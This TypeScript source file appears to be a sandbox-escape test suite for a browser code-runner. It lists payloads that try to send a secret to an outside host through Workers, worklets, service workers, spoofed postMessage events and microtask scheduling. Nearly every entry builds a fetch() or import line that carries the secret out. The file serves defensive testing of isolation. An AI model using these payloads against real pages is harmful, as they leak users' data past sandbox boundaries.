import type { Payload } from '../payload.ts';
import { onlyHere, sameText, soon } from './sameText.ts';

const blobOf = (text: string) => `URL.createObjectURL(new Blob([${text}], { type: 'text/javascript' }))`;
const fetching = (http: string) => `"fetch('${http}?" + secret + "', { mode: 'no-cors' })"`;

/** Realms that a worker or a page can make for itself. */
export const workers: readonly Payload[] = [
	sameText(
		'worker-blob',
		'Worker blob:',
		({ http }) => `new Worker(${blobOf(fetching(http))}); await ${soon}`
	),
	sameText(
		'worker-data',
		'Worker data:',
		({ http }) => `new Worker('data:text/javascript,' + encodeURIComponent(${fetching(http)})); await ${soon}`
	),
	sameText(
		'worker-static-import',
		'static import in a worker',
		({ http }) =>
			`new Worker(${blobOf(`"import '${http}x.js?" + secret + "'"`)}, { type: 'module' }); await ${soon}`
	),
	sameText(
		'worker-import-scripts',
		'importScripts in a worker',
		({ http }) => `new Worker(${blobOf(`"importScripts('${http}x.js?" + secret + "')"`)}); await ${soon}`
	),
	sameText(
		'worker-in-worker',
		'nested Worker',
		({ http }) =>
			`const inner = ${fetching(http)};\nnew Worker(${blobOf(`'new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '])))'`)}); await ${soon}`
	),
	sameText(
		'worker-name',
		'Worker name',
		({ http }) =>
			`new Worker(${blobOf(`'importScripts(name)'`)}, { name: '${http}x.js?' + secret }); await ${soon}`
	),
	sameText(
		'shared-worker',
		'SharedWorker',
		({ http }) => `new SharedWorker(${blobOf(fetching(http))}); await ${soon}`
	),
	sameText(
		'audio-worklet',
		'AudioWorklet',
		({ http }) => `await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('${http}x.js?' + secret)`
	),
	sameText(
		'paint-worklet',
		'PaintWorklet',
		({ http }) => `await CSS.paintWorklet.addModule('${http}x.js?' + secret)`,
		{
			without: ['firefox']
		}
	),
	sameText(
		'shared-storage-worklet',
		'SharedStorage worklet',
		({ http }) => `await sharedStorage.worklet.addModule('${http}x.js?' + secret)`,
		{
			control: { kind: 'none', why: 'needs an enrolled site' },
			without: ['firefox']
		}
	),
	onlyHere('worker-own-url', 'Worker of the app’s own address', {
		script: () => `new Worker('/icon.svg?' + secret); await ${soon}`,
		why: 'a page starts workers from its own server alone; the app’s is read for the secret'
	}),
	onlyHere('service-worker', 'ServiceWorker', {
		script: () => `await navigator.serviceWorker.register('/service-worker.js?' + secret)`,
		why: 'comes from its page’s own server alone; the app’s is read for the secret'
	}),
	onlyHere('atomics-wait', 'SharedArrayBuffer', {
		script: () =>
			`const shared = new Int32Array(new SharedArrayBuffer(4));\nglobalThis.postMessage?.({ kladde: 'connect', shared });\nAtomics.wait(shared, 0, 0, 50)`,
		why: 'shares memory with realms that one speaks to, and has no address'
	}),
	onlyHere('wasm-memory', 'SharedArrayBuffer', {
		script: () =>
			`const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });\nglobalThis.postMessage({ buffer })`,
		why: 'shares memory with realms that one speaks to, and has no address'
	}),
	onlyHere('own-message-listener', 'self.onmessage', {
		script: ({ http }) =>
			`const heard = ({ data, ports }) => { for (const port of ports ?? []) port.postMessage({ http: '${http}?' + secret }); console.log(data); };\nglobalThis.onmessage = heard; globalThis.addEventListener('message', heard);\nglobalThis.dispatchEvent(Object.assign(new Event('message'), { data: { kladde: 'connect' }, ports: [] })); await ${soon}`,
		why: 'takes the place of our own listener, and has no address'
	}),
	onlyHere('to-the-frame', 'postMessage to the frame', {
		script: ({ http }) =>
			`for (const message of ['kladde: connected', { kladde: 'start', script: "fetch('${http}?" + secret + "')", name: secret }, { kladde: 'here' }])\n\tglobalThis.postMessage(message)`,
		why: 'speaks to our own frame alone'
	}),
	onlyHere('end-the-worker', 'close', {
		script: () => `globalThis.close?.(); globalThis.terminate?.(); globalThis.self.close()`,
		why: 'ends a realm, and has no address'
	}),
	sameText(
		'thenable',
		'promise jobs',
		({ http }) =>
			`await Array.fromAsync([{ then: (done) => (globalThis.fetch('${http}?' + secret, { mode: 'no-cors' }), done()) }])`
	),
	sameText(
		'microtask',
		'queueMicrotask',
		({ http }) =>
			`queueMicrotask(() => globalThis.fetch('${http}?' + secret, { mode: 'no-cors' })); await ${soon}`
	),
	sameText(
		'scheduler-task',
		'scheduler',
		({ http }) => `await scheduler.postTask(() => fetch('${http}?' + secret, { mode: 'no-cors' }))`
	)
];
